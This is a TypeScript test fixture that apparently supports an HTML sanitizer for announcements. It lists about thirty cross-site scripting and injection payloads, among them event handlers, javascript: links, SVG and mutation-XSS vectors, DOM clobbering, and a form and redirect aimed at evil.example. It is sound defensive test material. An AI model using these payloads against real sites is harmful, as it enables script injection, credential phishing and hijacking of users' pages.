// Attacks in an announcement. Each would call `hit`, load a resource or change the page's look.

/** By type of attack. */
export const HOSTILE: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<script>hit()</script>'],
  ['a script in pieces', '<scr<script>ipt>hit()</scr</script>ipt>'],
  ['a handler of a picture', '<img src="/files/none.jpg" onerror="hit()" onload="hit()">'],
  ['a handler in capitals, without quotes', '<IMG SRC=/files/none.jpg OnErRoR=hit()>'],
  [
    'a handler of a paragraph',
    '<p onclick="hit()" onmouseover="hit()" onfocus="hit()" tabindex="1" autofocus>文</p>',
  ],
  ['a handler that comes by itself', '<details open ontoggle="hit()"><summary>文</summary></details>'],
  ['a javascript: link', '<a href="javascript:hit()">看详情</a>'],
  ['one with blanks and entities', '<a href=" &#106;ava&#x09;script:hit()">看详情</a>'],
  ['a data: link', '<a href="data:text/html,<script>parent.hit()</script>">看详情</a>'],
  ['a vbscript: link', '<a href="vbscript:hit()">看详情</a>'],
  ['a foreign frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame with its own page', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>'],
  ['an object and an embed', '<object data="javascript:hit()"></object><embed src="javascript:hit()">'],
  [
    'a drawing that runs',
    '<svg onload="hit()"><script>hit()</script><a xlink:href="javascript:hit()"><text>文</text></a></svg>',
  ],
  [
    'a drawing that changes a link',
    '<svg><a><animate attributeName="href" values="javascript:hit()"/><text>文</text></a></svg>',
  ],
  [
    'a picture that is a drawing',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22hit()%22/>">',
  ],
  [
    'a style sheet',
    '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css">',
  ],
  [
    'a style that covers the page',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/a)">文</p>',
  ],
  ['classes of the app', '<p class="cg-overlay" id="root">文</p>'],
  [
    'a form that requests the code',
    '<form action="https://evil.example/"><input name="code"><button>登录</button></form>',
  ],
  [
    'another base and a redirect',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ],
  [
    'a name that hides one of the page',
    '<img name="getElementById"><form id="cookie"><input name="attributes"></form>',
  ],
  [
    'mutation through math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></table></mtext></math>',
  ],
  ['mutation through a drawing', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">'],
  ['mutation through noscript', '<noscript><p title="</noscript><img src=1 onerror=hit()>"></noscript>'],
  ['mutation through a template', '<template><img src=1 onerror=hit()></template>'],
  ['mutation through a select', '<select><noembed></select><script>hit()</script></noembed></select>'],
  [
    'mutation through forms',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()></style></mglyph></form></mtext></math></form>',
  ],
  ['a comment that ends late', '<!--><img src=1 onerror=hit()>-->'],
]
